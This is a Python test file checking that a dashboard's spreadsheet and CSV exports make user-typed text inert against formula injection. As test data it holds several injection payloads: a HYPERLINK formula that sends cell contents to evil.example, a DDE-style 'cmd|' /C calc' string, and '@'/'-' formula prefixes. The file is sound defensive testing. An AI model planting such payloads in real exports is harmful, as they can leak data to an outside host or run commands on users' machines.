"""Issue 11, 3: a text someone typed never becomes a live formula in an export.

On main, a gap explanation such as ``=HYPERLINK(...)`` was written into the report
workbook as a formula (sheets Indicatori, A rischio, Rimodulazioni) and as it is into
the open-data CSVs. Every export now writes such texts inert; numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from cruscotto.io import opendata
from cruscotto.web.measurements import services
from cruscotto.web.measurements.uploads import TemplateRow, template_csv, template_xlsx
from cruscotto.web.reports.data import build_report
from cruscotto.web.reports.render import render
from tests.web.measurements.conftest import People

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clicca")'
JUNE = datetime.date(2021, 6, 30)


def _admin() -> Any:
    from django.contrib.auth import get_user_model

    return get_user_model().objects.create_superuser("admin-test", password="x")


def _cells(ws: Any) -> list[Any]:
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.fixture
def poisoned(people: People) -> People:
    p = people.interim
    services.do_set_values(user=people.manager_a, period=p, items=[
        services.ValueInput("3.1.1", "budget_innovazione", Decimal(9_500_000)),
        services.ValueInput("3.1.1", "contabilizzato_innovazione", Decimal(3_800_000))])
    services.do_submit(user=people.manager_a, period=p, indicator="3.1.1",
                       gap_explanation=EVIL, forecast="+1+cmd|' /C calc'!A0")
    services.do_revise_target(user=_admin(), plan_id=people.plan.pk, indicator="3.1.1",
                              year=2021, text=">=80%", justification="@SUM(1+1)*cmd")
    return people


def test_the_report_workbook_writes_typed_texts_as_inert_text(poisoned: People) -> None:
    report = build_report(plan_key=poisoned.plan.key, year=2021, date=JUNE,
                          include_drafts=True)
    wb = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))
    from cruscotto.io.cells import inert

    for sheet in ("Indicatori", "A rischio", "Rimodulazioni"):
        cells = _cells(wb[sheet])
        assert not [c.coordinate for c in cells if c.data_type == "f"], sheet
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts if t.startswith(("=", "@"))
                    or (t.startswith("+") and inert(t) != t)], sheet
    shown = {c.value for c in _cells(wb["Indicatori"])}
    assert "'" + EVIL in shown and "'+1+cmd|' /C calc'!A0" in shown
    assert "'@SUM(1+1)*cmd" in {c.value for c in _cells(wb["Rimodulazioni"])}
    # the figures are still numbers a spreadsheet computes with
    row = next(r for r in wb["Indicatori"].iter_rows(min_row=2) if r[0].value == "3.1.1")
    assert isinstance(row[6].value, int | float) and row[6].data_type == "n"


def test_the_open_data_csv_writes_texts_inert_and_numbers_as_numbers() -> None:
    data = opendata.OpenData(publisher="Ente", plans=["p"], tables={"piani": [
        {"piano": "p", "titolo": EVIL, "ente": "-cmd", "primo_anno": 2021}]})
    files = opendata.render(data)
    rows = list(csv.reader(io.StringIO(files["piani.csv"].decode())))
    assert "'" + EVIL in rows[1] and "'-cmd" in rows[1]
    assert opendata._csv_value(Decimal("-5.5")) == "-5.5"


def test_the_upload_templates_write_labels_inert() -> None:
    rows = [TemplateRow("3.1.1", "x", EVIL, 2021, None, Decimal("-12.5")),
            TemplateRow("3.1.1", "y", "@foo", 2021, None, None)]
    text = template_csv(rows).decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text and "'@foo" in text
    assert ";-12,5;" in text  # a negative number is a number, not a formula

    class P:
        end_date = JUNE

    wb = openpyxl.load_workbook(io.BytesIO(template_xlsx(rows, period=P())))  # type: ignore[arg-type]
    ws = wb["valori"]
    assert not [c.coordinate for c in _cells(ws) if c.data_type == "f"]
    assert ws["G2"].value == "'" + EVIL
    assert ws["D2"].value == -12.5 and ws["D2"].data_type == "n"


@pytest.mark.parametrize("text", ["=1+1", "+1+A1", "-x", "@x", "\tx", "\rx"])
def test_each_dangerous_start_is_made_inert(text: str) -> None:
    from cruscotto.io.cells import inert

    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["-3%", "+20%", "-1.234,5", "testo", ""])
def test_plain_texts_and_signed_numbers_are_left_alone(text: str) -> None:
    from cruscotto.io.cells import inert

    assert inert(text) == text
